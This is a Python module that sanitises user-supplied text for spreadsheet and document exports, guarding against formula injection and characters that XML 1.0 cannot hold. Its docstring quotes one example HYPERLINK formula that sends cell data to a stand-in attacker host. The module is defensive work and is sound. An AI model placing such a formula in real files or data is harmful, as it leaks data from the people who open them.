"""Text from users written into files: the one helper every XLSX, CSV and DOCX writer passes it through.

Two things go wrong when a writer takes a stored name as it is:
- a spreadsheet runs it. openpyxl stores any string starting with "=" as a formula (and "#N/A" as an
  error value), so a unit renamed to ``=HYPERLINK("http://evil.example/?u="&A5,"x")`` becomes a live
  link in the province's export. ``xlsx_row`` writes every string as an inline string instead, in
  write-only mode too, with its value unchanged (an export re-imports as it was). A CSV has no cell
  types, so ``csv_row`` prefixes the characters spreadsheets start formulas with by an apostrophe,
  as OWASP advises.
- the file cannot hold it. XML 1.0 has no place for most C0 control characters, lone surrogates,
  U+FFFE or U+FFFF: openpyxl raises ``IllegalCharacterError`` and python-docx ``ValueError`` on the
  whole export. Input is cleaned (``quantriet.core.textinput``) but rows stored before, or by a path
  not yet cleaned, must not take an export down, so ``file_text`` drops them again here.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

from django.utils.functional import Promise
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, TYPE_STRING, Cell

__all__ = ["csv_row", "file_text", "xlsx_row"]

# Everything outside XML 1.0's Char production (tab, LF and CR are allowed; the rest of C0 is not).
_NOT_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
# What Excel, LibreOffice and Google Sheets start a formula (or a DDE call) with in a CSV cell.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def file_text(value: object) -> str:
    """``value`` as text an XLSX or DOCX can hold: characters XML 1.0 cannot carry are removed."""
    return _NOT_XML.sub("", str(value))


def _text_cell(sheet: Any, value: str) -> Cell | str | None:
    text = file_text(value)
    if not text:
        return None  # no cell rather than an empty string cell
    if not text.startswith("=") and text not in ERROR_CODES:
        # openpyxl binds any other string as text; leaving it a plain value keeps a 100,000-row export
        # as fast as before (a Cell per string costs about half as much again).
        return text
    cell = WriteOnlyCell(sheet, value=text)
    # Set after the value: openpyxl infers "f" from a leading "=" (and "e" from "#N/A") when binding it.
    cell.data_type = TYPE_STRING
    return cell


def xlsx_row(sheet: Any, values: Iterable[object]) -> list[object]:
    """A row for ``sheet.append``: strings are written as text, anything else (numbers, dates, cells) stays.

    Works for normal and write-only worksheets alike (both take ``Cell`` objects in ``append``).
    """
    row: list[object] = []
    for value in values:
        if isinstance(value, str | Promise):
            row.append(_text_cell(sheet, str(value)))
        else:
            row.append(value)
    return row


def csv_row(values: Iterable[object]) -> list[object]:
    """A row for ``csv.writer``: text a spreadsheet would read as a formula starts with an apostrophe."""
    row: list[object] = []
    for value in values:
        if isinstance(value, str | Promise):
            text = file_text(value)
            row.append("'" + text if text.startswith(_FORMULA_START) else text)
        else:
            row.append(value)
    return row
